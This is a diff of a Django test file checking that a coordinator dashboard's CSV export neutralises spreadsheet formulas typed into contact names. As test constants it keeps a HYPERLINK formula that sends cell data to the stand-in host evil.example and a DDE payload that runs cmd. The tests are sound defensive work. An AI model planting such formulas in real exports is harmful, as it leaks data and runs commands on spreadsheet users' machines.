@@ -17,7 +17,7 @@ from tests.dashboard.conftest import order_in, populate
 pytestmark = pytest.mark.django_db
 
 
-def test_export_streams_the_filtered_orders_as_excel_csv(client, world) -> None:  # type: ignore[no-untyped-def]
+def test_export_streams_the_filtered_orders_as_excel_csv(client, world) -> None:
     kelheim = order_in(world.kelheim, world.fuehrerschein, stage="vertrag")
     order_in(world.regen, world.fuehrerschein)
     client.force_login(world.coordinator)
@@ -25,7 +25,7 @@ def test_export_streams_the_filtered_orders_as_excel_csv(client, world) -> None:
     assert isinstance(response, StreamingHttpResponse)
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in response["Content-Disposition"]
-    body = b"".join(response.streaming_content).decode("utf-8")
+    body = response.getvalue().decode("utf-8")  # joins the streamed body
     assert body.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
     assert rows[0][:3] == ["Bestellnummer", "Behörde", "Kennung der Behörde"]
@@ -41,7 +41,7 @@ def test_export_streams_the_filtered_orders_as_excel_csv(client, world) -> None:
 
 def test_export_reads_in_chunks_with_constant_queries(
     client, world, django_assert_max_num_queries, monkeypatch
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     populate(world, 30)
     monkeypatch.setattr("dashboard.export.ROWS_PER_CHUNK", 7)
     client.force_login(world.coordinator)
@@ -56,7 +56,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "-2+3+cmd|' /C calc'!A0"
 
 
-def test_contact_name_formula_is_neutralised_in_coordinator_csv(client, world) -> None:  # type: ignore[no-untyped-def]
+def test_contact_name_formula_is_neutralised_in_coordinator_csv(client, world) -> None:
     """Issue 13, finding 3: a formula typed as a contact name reached the CSV unchanged."""
     first = order_in(world.kelheim, world.fuehrerschein)
     second = order_in(world.regen, world.fuehrerschein)
@@ -77,7 +77,7 @@ def test_contact_name_formula_is_neutralised_in_coordinator_csv(client, world) -
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
 )
 @given(name=st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=150))
-def test_no_contact_name_becomes_a_formula_in_the_csv(world, name: str) -> None:  # type: ignore[no-untyped-def]
+def test_no_contact_name_becomes_a_formula_in_the_csv(world, name: str) -> None:
     from dashboard.export import csv_lines
     from orders.models import Order
 
